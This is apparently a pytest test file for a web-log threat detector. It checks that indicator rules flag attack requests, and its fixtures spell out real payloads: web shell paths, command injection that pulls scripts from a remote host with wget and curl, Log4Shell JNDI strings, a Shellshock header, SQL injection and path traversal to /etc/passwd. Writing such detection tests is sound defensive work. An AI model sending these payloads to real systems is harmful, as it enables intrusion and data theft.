"""Log indicators (signatures/logs/indicators.toml): literal requests in, reason ids out."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from webhunt.errors import RuleError
from webhunt.logs.indicators import Indicators, default_path, load_indicators
from webhunt.model import Layer, Request

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36"
)


@pytest.fixture(scope="module")
def indicators() -> Indicators:
    return load_indicators()


def req(
    path: str = "/",
    query: str = "",
    *,
    method: str = "GET",
    ua: str = CHROME,
    referer: str = "",
    status: int = 200,
) -> Request:
    return Request(
        datetime(2024, 3, 1, 10, tzinfo=UTC),
        "203.0.113.9",
        method,
        path,
        query,
        status,
        100,
        referer,
        ua,
        "",
        "HTTP/1.1",
        "access.log",
        "sid",
        42,
    )


MALICIOUS: list[tuple[Request, set[str]]] = [
    (req("/wp-content/uploads/c99.php"), {"WH-LOG-SHELL-001"}),
    (req("/images/wso25.php"), {"WH-LOG-SHELL-001"}),
    (req("/b374k-3.2.3.php"), {"WH-LOG-SHELL-001"}),
    (req("/upload/cmd.jsp"), {"WH-LOG-SHELL-002"}),
    (req("/uploads/shell%2ephp"), {"WH-LOG-SHELL-002"}),  # decoded before matching
    (req("/adminer-4.8.1.php"), {"WH-LOG-SHELL-003"}),
    (req("/upfiles/x.asp;.jpg"), {"WH-LOG-SHELL-004"}),
    (req("/uploads/avatar.jpg/x.php"), {"WH-LOG-SHELL-004"}),
    (req("/uploads/2024/invoice.php.jpg"), {"WH-LOG-SHELL-005"}),
    (req("/x.php", "cmd=whoami"), {"WH-LOG-PARAM-001", "WH-LOG-PARAM-002"}),
    (req("/x.php", "c=uname+-a"), {"WH-LOG-PARAM-001"}),
    (req("/x.php", "exec=cat%20/etc/passwd"), {"WH-LOG-PARAM-001", "WH-LOG-PARAM-002",
                                                "WH-LOG-LFI-002"}),
    (req("/x.php", "z0=QGluaV9zZXQ&z1=L3Zhci93d3c"), {"WH-LOG-PARAM-003"}),
    (req("/x.php", "a=FilesMan&c=/var/www"), {"WH-LOG-PARAM-004"}),
    (req("/x.php", "act=cmd"), {"WH-LOG-PARAM-004"}),
    (req("/x.php", "x=eval(base64_decode($_POST[z]))"), {"WH-LOG-PARAM-005"}),
    (req("/index.php", "s=/index/\\think\\app/invokefunction&function=call_user_func_array"),
     {"WH-LOG-PARAM-007"}),
    (req("/x.action", "redirect:${%23_memberAccess%3d@ognl.OgnlContext@DEFAULT}"),
     {"WH-LOG-PARAM-008"}),
    (req("/", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"), {"WH-LOG-UA-001"}),
    (req("/", ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"), {"WH-LOG-UA-002"}),
    (req("/", ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
     {"WH-LOG-UA-003"}),
    (req("/", ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)"), {"WH-LOG-UA-004"}),
    (req("/", ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
     {"WH-LOG-UA-005"}),
    (req("/", ua="Fuzz Faster U Fool v2.1.0-dev"), {"WH-LOG-UA-006"}),
    (req("/a.php", method="POST", ua="antSword/v2.1"), {"WH-LOG-UA-007"}),
    (req("/a.php", method="POST",
         ua="Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"),
     {"WH-LOG-UA-008", "WH-LOG-UA-010"}),
    (req("/a.jsp", method="POST",
         ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:84.0) Gecko/20100101 Firefox/84.0"),
     {"WH-LOG-UA-009"}),
    (req("/", ua="python-requests/2.31.0"), {"WH-LOG-UA-011"}),
    (req("/", ua="curl/8.5.0"), {"WH-LOG-UA-011"}),
    (req("/index.php", "page=../../../../etc/passwd"), {"WH-LOG-LFI-001", "WH-LOG-LFI-002"}),
    (req("/static/..%2f..%2f..%2fwindows/win.ini"), {"WH-LOG-LFI-001", "WH-LOG-LFI-002"}),
    (req("/index.php", "file=php://filter/convert.base64-encode/resource=config"),
     {"WH-LOG-LFI-003"}),
    (req("/index.php", "page=http://198.51.100.9/shell.txt?"),
     {"WH-LOG-RFI-001", "WH-LOG-RFI-002"}),
    (req("/product.php", "id=1%20UNION%20ALL%20SELECT%20NULL,user(),NULL--"),
     {"WH-LOG-SQLI-001"}),
    (req("/product.php", "id=1+union/**/select+1,2"), {"WH-LOG-SQLI-001"}),
    (req("/product.php", "id=5'%20AND%20SLEEP(5)--%20-"), {"WH-LOG-SQLI-002"}),
    (req("/login.php", "user=admin'%20or%20'1'='1"), {"WH-LOG-SQLI-003"}),
    (req("/p.php", "id=1%20and%20extractvalue(1,concat(0x7e,version()))"), {"WH-LOG-SQLI-004"}),
    (req("/ping.php", "host=127.0.0.1;id"), {"WH-LOG-CMDI-001"}),
    (req("/ping.php", "host=x|wget%20http://198.51.100.9/x.sh"), {"WH-LOG-CMDI-001"}),
    (req("/ping.php", "host=$(curl%20198.51.100.9)"), {"WH-LOG-CMDI-001"}),
    (req("/", ua="${jndi:ldap://198.51.100.9:1389/a}"), {"WH-LOG-CMDI-002"}),
    (req("/", ua="${${lower:j}ndi:ldap://198.51.100.9/a}"), {"WH-LOG-CMDI-002"}),
    (req("/cgi-bin/status", ua="() { :; }; /bin/bash -c 'id'"), {"WH-LOG-CMDI-003"}),
    (req("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", method="POST"),
     {"WH-LOG-CMDI-004"}),
    (req("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", method="POST"),
     {"WH-LOG-CMDI-005", "WH-LOG-LFI-001"}),
    (req("/.env"), {"WH-LOG-PROBE-001"}),
    (req("/.git/config"), {"WH-LOG-PROBE-001"}),
    (req("/wp-config.php.bak"), {"WH-LOG-PROBE-001"}),
    (req("/phpmyadmin/index.php"), {"WH-LOG-PROBE-002"}),
    (req("/actuator/env"), {"WH-LOG-PROBE-003"}),
    (req("/wp-content/plugins/wp-file-upload/lib/php-uploader.php"), {"WH-LOG-PROBE-004"}),
    (req("/uploads/x.jsp/", method="PUT", status=201),
     {"WH-LOG-METHOD-001", "WH-LOG-METHOD-003"}),
    (req("/", method="PROPFIND"), {"WH-LOG-METHOD-002"}),
]  # fmt: skip


@pytest.mark.parametrize(("request_", "expected"), MALICIOUS)
def test_malicious_requests(indicators: Indicators, request_: Request, expected: set[str]) -> None:
    reasons = indicators.match(request_)
    assert {r.id for r in reasons} == expected
    for r in reasons:
        assert r.layer is Layer.LOG and r.line == 42 and r.snippet


BENIGN = [
    req("/"),
    req("/wp-content/themes/shop/style.css", "ver=6.4.3"),
    req("/search.php", "q=caf%C3%A9+cr%C3%A8me&page=2"),
    req("/search.php", "q=rock+%27n%27+roll+and+more"),
    req("/index.php", "id=123&sort=desc&dir=asc"),
    req("/index.php", "option=com_content&view=article&id=7;catid=2"),
    req("/wp-login.php", method="POST"),
    req("/wp-admin/admin-ajax.php", "action=heartbeat", method="POST"),
    req("/api/v1/orders/55", method="DELETE"),
    req("/upload.php", method="POST"),
    req("/shop/upload-image.php", method="POST"),
    req("/command-center/"),
    req("/news/2024/03/union-select-committee-report"),  # words, not SQL
    req("/checkout.php", "next=%2Fcart.php"),
    req("/robots.txt", ua="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    req("/", referer="https://www.google.com/search?q=shop"),
    req("/feed/", ua="Feedly/1.0 (+http://www.feedly.com/fetcher.html; 16 subscribers)"),
    req("/assets/app.js", "v=3&cache=1709290000"),
]


@pytest.mark.parametrize("request_", BENIGN)
def test_benign_requests_match_nothing(indicators: Indicators, request_: Request) -> None:
    assert indicators.match(request_) == []


def test_same_value_is_matched_once_then_memoised(indicators: Indicators) -> None:
    a = indicators.match(req("/x.php", "cmd=whoami"))
    b = indicators.match(req("/x.php", "cmd=whoami"))
    assert a == b


def test_bundled_file_ids_are_unique_and_well_formed() -> None:
    ind = load_indicators(default_path())
    ids = [i.id for i in ind.indicators]
    assert len(ids) == len(set(ids)) >= 40
    assert all(re.fullmatch(r"WH-LOG-[A-Z]+-\d{3}", i) for i in ids)
    agg = ind.aggregate
    assert [agg.rare_clients.id, agg.upload_post.id, agg.unknown_script.id] == [
        "WH-LOG-AGG-001",
        "WH-LOG-AGG-002",
        "WH-LOG-AGG-003",
    ]
    # a weak hint never reaches medium alone
    assert {i.id for i in ind.indicators if i.id.startswith("WH-LOG-UA-011")} == {"WH-LOG-UA-011"}
    assert all(i.score < 40 for i in ind.indicators if i.id in ("WH-LOG-UA-011", "WH-LOG-RFI-002"))


AGGREGATE = """
[aggregate.rare_clients]
id = "WH-LOG-AGG-001"
description = "rare"
score = 30
[aggregate.upload_post]
id = "WH-LOG-AGG-002"
description = "upload"
score = 65
[aggregate.unknown_script]
id = "WH-LOG-AGG-003"
description = "unknown"
score = 60
"""
GOOD = """
[[indicator]]
id = "WH-LOG-T-001"
field = "path"
pattern = 'x'
description = "x"
score = 10
"""


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[[indicator]\nid=", "indicators.toml: .*at line 1, column 12"),  # TOML syntax error, with its line
        ("version = 1\n" + AGGREGATE, "no \\[\\[indicator\\]\\] entries"),
        (GOOD.replace("'x'", "'(unclosed'") + AGGREGATE,
         "indicator WH-LOG-T-001: bad pattern: missing \\)"),
        (GOOD.replace("'x'", "'(?P<name>x)'") + AGGREGATE,
         "indicator WH-LOG-T-001: pattern may not use named groups"),
        (GOOD.replace('"path"', '"cookie"') + AGGREGATE, "indicator WH-LOG-T-001: field must be"),
        (GOOD.replace("score = 10", "score = 101") + AGGREGATE,
         "indicator WH-LOG-T-001: score must be an integer 0-100"),
        (GOOD.replace("WH-LOG-T-001", "LOG1") + AGGREGATE, "indicator #1: id must look like"),
        (GOOD + GOOD + AGGREGATE, "indicator #2: duplicate id WH-LOG-T-001"),
        (GOOD + "colour = 'red'\n" + AGGREGATE, "unknown key\\(s\\) colour"),
        (GOOD.replace('description = "x"', 'flags = "q"\ndescription = "x"') + AGGREGATE,
         "flags must be made of"),
        (GOOD, "missing \\[aggregate"),
        (GOOD + AGGREGATE.replace("WH-LOG-AGG-003", "WH-LOG-AGG-001"),
         "\\[aggregate.unknown_script\\]: id 'WH-LOG-AGG-001' is malformed or already used"),
    ],
)  # fmt: skip
def test_bad_indicator_files_name_file_and_entry(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "indicators.toml"
    path.write_text(text)
    with pytest.raises(RuleError, match=message) as info:
        load_indicators(path)
    assert str(path) in str(info.value)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match="cannot read"):
        load_indicators(tmp_path / "nope.toml")


def test_custom_file_flags_and_methods(tmp_path: Path) -> None:
    path = tmp_path / "mine.toml"
    path.write_text(
        GOOD.replace("'x'", "'^/Secret$'").replace('description = "x"', 'flags = ""\n'
        'methods = ["post"]\ndescription = "x"') + AGGREGATE
    )  # fmt: skip
    ind = load_indicators(path)
    assert [r.id for r in ind.match(req("/Secret", method="POST"))] == ["WH-LOG-T-001"]
    assert ind.match(req("/secret", method="POST")) == []  # flags "" : case matters
    assert ind.match(req("/Secret")) == []  # GET
